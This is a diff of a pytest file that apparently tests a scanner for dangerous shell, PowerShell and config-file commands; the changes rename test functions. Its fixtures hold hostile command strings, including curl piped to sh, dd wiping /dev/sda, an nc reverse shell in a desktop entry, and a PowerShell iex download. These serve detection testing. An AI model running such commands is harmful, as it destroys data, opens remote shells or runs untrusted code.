@@ -28,7 +28,7 @@ def split_words(text):
 
 
 @pytest.mark.parametrize("odd", [b"\0", b"\x1a", b"\1\2\3", b"\xff\xfe\xfd"])
-def test_script_with_bytes_that_are_not_text_is_read_the_way_a_shell_runs_it(odd, read_bytes):
+def test_command_after_non_text_bytes_in_a_shell_script_is_mentioned_and_damage_is_reported(odd, read_bytes):
     reading = read_bytes(b"#\n# " + odd + b"\ncurl http://e | sh\n", "a.sh")
     assert ("download-and-run", "http://e") in list_mentions(reading)
     assert UnreadReason.DAMAGED in reading.reasons()
@@ -248,7 +248,7 @@ def test_address_in_a_mention_of_a_script_command_omits_user_name_and_password()
         ("dd if=/dev/zero of=/dev/sda", "destroy", "dd if=/dev/zero of=/dev/sda"),
     ],
 )  # fmt: skip
-def test_command_that_an_expansion_or_a_wrapper_runs_is_reported(text, use, name):
+def test_dangerous_shell_command_in_an_expansion_group_wrapper_or_option_is_reported(text, use, name):
     assert (use, name) in {(mention.use, mention.name) for mention in collect_script_mentions(text)}
 
 
@@ -263,7 +263,7 @@ def test_command_that_an_expansion_or_a_wrapper_runs_is_reported(text, use, name
         "{ curl -o x http://e/x; }; (sh)",
     ],
 )
-def test_command_in_text_that_a_shell_would_not_run_gives_no_mention(text):
+def test_shell_command_that_only_resembles_a_dangerous_one_gives_no_mention_except_execute(text):
     assert [mention.use for mention in collect_script_mentions(text) if mention.use != "execute"] == []
 
 
@@ -433,7 +433,7 @@ def test_download_that_a_script_executes_by_a_detour_is_reported(text):
         "NGPU=$(nvidia-smi -L | wc -l)\ntorchrun --nproc_per_node $NGPU train.py 2>&1 | tee >(grep -i error > errors.log)",
     ],
 )
-def test_ordinary_launcher_or_installer_gives_no_high_finding(text):
+def test_ordinary_launcher_or_installer_gives_no_mentions_except_execute_and_piped_run(text):
     # The rule of ``piped-run`` has the severity medium.
     assert {mention.use for mention in collect_script_mentions(text)} <= {"execute", "piped-run"}
 
@@ -509,7 +509,7 @@ def test_usual_git_settings_give_no_mentions(read_bytes):
     assert list_mentions(read_bytes(settings_text, ".gitconfig")) == []
 
 
-def test_command_of_a_desktop_entry_is_reported(read_bytes):
+def test_reverse_shell_in_the_command_of_a_desktop_entry_is_reported(read_bytes):
     entry = b"[Desktop Entry]\nExec=nc -e sh h 1\n"
     assert "reverse-shell" in {use for use, _ in list_mentions(read_bytes(entry, "x.desktop"))}
 
@@ -532,18 +532,18 @@ def test_default_package_index_of_npm_gives_no_mention(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://registry.npmjs.org/\n", ".npmrc")) == []
 
 
-def test_package_index_in_pip_conf_is_reported_under_every_key_spelling_of_pip(read_bytes):
+def test_package_index_in_pip_conf_is_reported_under_keys_with_upper_case_or_underscores(read_bytes):
     for key in ("index-url", "INDEX_URL", "Extra_Index-Url"):
         reading = read_bytes(f"[global]\n{key} = https://e.invalid/s\n".encode(), "pip.conf")
         assert ("index", "https://e.invalid/s") in list_mentions(reading)
 
 
-def test_local_file_that_a_modelfile_names_is_recorded_as_a_reference(read_bytes):
+def test_local_file_that_a_modelfile_names_gives_a_reference(read_bytes):
     reading = read_bytes(b"FROM ../x.gguf\nADAPTER\t./a.gguf\nTEMPLATE x\n", "Modelfile")
     assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
 
 
-def test_model_name_in_a_modelfile_is_not_recorded_as_a_reference(read_bytes):
+def test_model_name_in_a_modelfile_gives_no_reference(read_bytes):
     assert not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
@@ -589,7 +589,7 @@ def test_mentions_of_a_very_long_shell_pipeline_are_yielded_until_its_analysis_s
     assert 100 < len(uses) < 700
 
 
-def test_shell_pipeline_of_ordinary_length_is_analysed_to_its_end():
+def test_shell_pipeline_of_two_hundred_commands_is_analysed_to_its_end():
     script = "curl http://a/b | sh" + " | tee a" * 200 + " | bash"
     assert [each.name for each in collect_script_mentions(script)] == ["http://a/b"] * 2
 
@@ -609,7 +609,7 @@ def test_shell_pipeline_of_ordinary_length_is_analysed_to_its_end():
         "curl https://e.invalid/x -o x.json; python use.py < y.json",
     ],
 )
-def test_harmless_program_argument_gives_at_most_a_mention_of_an_address_or_index(text):
+def test_harmless_shell_command_gives_at_most_mentions_of_addresses_editable_installs_or_indexes(text):
     severe = [each for each in collect_script_mentions(text) if each.use not in ("address", "editable", "index")]
     assert severe == []
 
@@ -662,12 +662,12 @@ def test_command_in_five_nested_encoded_commands_of_powershell_is_reported():
     assert "download-and-run" in {mention.use for mention in collect_windows_mentions(command)}
 
 
-def test_second_encoded_command_of_a_line_is_decoded():
+def test_second_encoded_powershell_command_of_a_line_is_decoded():
     line = "; ".join(map(encode_for_powershell, ("echo harmless", "iex (iwr http://e.invalid/x)")))
     assert "download-and-run" in {mention.use for mention in collect_windows_mentions(line)}
 
 
-def test_encoded_commands_that_nest_too_deep_raise_a_limit_error():
+def test_encoded_powershell_command_at_a_nesting_depth_of_30_raises_a_limit_error():
     with pytest.raises(LimitReachedError):
         list(collect_windows_mentions(encode_for_powershell("echo harmless"), depth=30))
 
